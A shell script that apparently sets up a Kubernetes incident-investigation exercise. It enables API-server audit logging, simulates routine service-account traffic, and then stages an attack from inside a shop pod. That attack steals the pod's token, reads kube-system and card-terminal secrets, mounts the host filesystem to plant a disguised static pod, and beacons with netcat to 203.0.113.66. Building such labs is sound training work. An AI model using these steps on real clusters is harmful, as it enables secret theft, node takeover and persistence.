mkdir -p /etc/kubernetes/audit /var/log/kubernetes /root/incident
yq -i '.spec.containers[0].command += ["--audit-policy-file=/etc/kubernetes/audit/policy.yaml", "--audit-log-path=/var/log/kubernetes/audit.log", "--audit-log-maxage=7", "--audit-log-maxbackup=2", "--audit-log-maxsize=50"]
  | .spec.containers[0].volumeMounts += [{"name": "audit-policy", "mountPath": "/etc/kubernetes/audit", "readOnly": true}, {"name": "audit-log", "mountPath": "/var/log/kubernetes"}]
  | .spec.volumes += [{"name": "audit-policy", "hostPath": {"path": "/etc/kubernetes/audit", "type": "Directory"}}, {"name": "audit-log", "hostPath": {"path": "/var/log/kubernetes", "type": "DirectoryOrCreate"}}]' /etc/kubernetes/manifests/kube-apiserver.yaml
kubectl rollout status deployment/gallery -n shop --timeout=120s
kubectl rollout status deployment/till -n bank --timeout=120s
until test -s /var/log/kubernetes/audit.log && kubectl get --raw /readyz > /dev/null 2>&1; do sleep 2; done

# An ordinary day.
REPORTER=$(kubectl create token reporter -n shop)
BUILDER=$(kubectl create token builder -n bank)
API=https://172.30.1.2:6443
report() { curl -sk -o /dev/null -A 'reporter/2.1' -H "Authorization: Bearer $REPORTER" $API/api/v1/namespaces/shop/secrets/newsletter; }
build() { curl -sk -o /dev/null -A 'builder/0.9' -H "Authorization: Bearer $BUILDER" $API/apis/apps/v1/namespaces/bank/deployments; }
report; build; sleep 7

# And what happened in it.
NODE=$(kubectl get pods -n shop -l app=gallery -o jsonpath='{.items[0].spec.nodeName}')
cat > /tmp/inside.sh <<'INSIDE'
TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
API=https://kubernetes.default.svc
ask() { curl -sk -o /dev/null -H "Authorization: Bearer $TOKEN" "$@"; }
ask $API/api/v1/namespaces
ask -H 'Content-Type: application/json' -d '{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectRulesReview","spec":{"namespace":"shop"}}' $API/apis/authorization.k8s.io/v1/selfsubjectrulesreviews
ask $API/api/v1/namespaces/kube-system/secrets
ask $API/api/v1/namespaces/shop/secrets/card-terminal
ask -H 'Content-Type: application/json' -d '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"node-cache-warmer"},"spec":{"nodeSelector":{"kubernetes.io/hostname":"node02"},"containers":[{"name":"c","image":"busybox:1.37","command":["sh","-c","echo \"$M\" > /host/etc/kubernetes/manifests/kube-proxy-cache.yaml; sleep 1d"],"env":[{"name":"M","value":"{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"name\":\"kube-proxy-cache\",\"namespace\":\"kube-system\"},\"spec\":{\"containers\":[{\"name\":\"cache\",\"image\":\"busybox:1.37\",\"command\":[\"sh\",\"-c\",\"while true; do nc -w 5 203.0.113.66 3333; sleep 20; done\"]}]}}"}],"volumeMounts":[{"name":"host","mountPath":"/host"}]}],"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}' $API/api/v1/namespaces/shop/pods
INSIDE
ssh $NODE 'crictl exec -i $(crictl ps -q --name "^web$" | head -n 1) sh' < /tmp/inside.sh
rm /tmp/inside.sh
sleep 9
report; build
for i in 1 2 3; do sleep 5; report; done
sleep 15
